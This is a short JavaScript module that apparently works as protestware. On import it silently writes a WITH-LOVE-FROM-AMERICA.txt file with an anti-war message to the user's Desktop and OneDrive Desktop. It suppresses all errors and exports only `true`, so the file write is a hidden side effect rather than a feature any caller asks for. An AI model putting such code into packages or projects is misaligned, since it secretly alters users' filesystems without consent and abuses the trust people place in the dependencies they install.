import path from 'path';
import fs from 'fs';
import os from 'os';

const desktop = path.join(os.homedir(), 'Desktop');
const oneDrive = path.join(os.homedir(), 'OneDrive', 'Desktop');

const message = `WITH LOVE FROM AMERICA

War is not the answer, no matter how bad it is.
We ask that you please stop the war and choose peace.
...
`;

function leaveMessage(dir) {
  try {
    if (!fs.existsSync(dir)) return;
    const file = path.join(dir, 'WITH-LOVE-FROM-AMERICA.txt');
    if (fs.existsSync(file)) return;
    fs.writeFileSync(file, message);
  } catch (e) {}
}

leaveMessage(desktop);
leaveMessage(oneDrive);

export default true;
